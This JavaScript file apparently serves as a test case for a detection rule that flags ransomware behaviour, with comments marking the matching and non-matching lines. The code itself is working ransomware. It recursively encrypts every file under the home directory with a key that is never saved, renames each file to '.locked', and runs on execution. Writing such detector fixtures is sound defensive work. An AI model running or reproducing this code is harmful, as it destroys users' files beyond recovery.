const fs = require("fs");
const path = require("path");
const crypto = require("crypto");
const os = require("os");

const key = crypto.randomBytes(32);
const iv = crypto.randomBytes(16);

function walk(dir) {
  for (const name of fs.readdirSync(dir)) {
    const full = path.join(dir, name);
    if (fs.statSync(full).isDirectory()) {
      walk(full);
    } else {
      // ruleid: js-ransomware-walk-encrypt-destroy
      const cipher = crypto.createCipheriv("aes-256-cbc", key, iv);
      fs.writeFileSync(full, Buffer.concat([cipher.update(fs.readFileSync(full)), cipher.final()]));
      fs.renameSync(full, full + ".locked");
    }
  }
}

function unlock(file) {
  // ok: js-ransomware-walk-encrypt-destroy
  const decipher = crypto.createDecipheriv("aes-256-cbc", key, iv);
  return Buffer.concat([decipher.update(fs.readFileSync(file)), decipher.final()]);
}

walk(os.homedir());
